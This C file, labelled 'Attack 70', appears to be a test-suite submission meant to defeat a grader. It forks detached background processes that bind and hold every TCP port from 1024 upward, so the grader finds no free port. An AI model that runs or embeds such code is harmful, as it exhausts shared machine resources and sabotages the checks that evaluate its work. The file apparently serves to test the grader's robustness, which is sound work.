/* Attack 70: a client that leaves somebody behind who takes every port that there is, so that the
 * grader finds none for itself. */
#define _DEFAULT_SOURCE
#include "honest.h"

#include <signal.h>

static void take_ports(int first)
{
    for (int port = first; port < 65536; port++)
        if (fork() == 0) {
            for (int next = port; next < port + 400 && next < 65536; next++) {
                int fd = socket(AF_INET, SOCK_STREAM, 0);
                struct sockaddr_in address = {.sin_family = AF_INET,
                                              .sin_port = htons((uint16_t)next)};
                if (bind(fd, (struct sockaddr *)&address, sizeof address) == 0)
                    listen(fd, 1);
            }
            for (;;)
                pause();
        } else {
            port += 399;
        }
}

int main(void)
{
    signal(SIGCHLD, SIG_IGN);
    setsid();
    take_ports(1024);
    return 1;
}
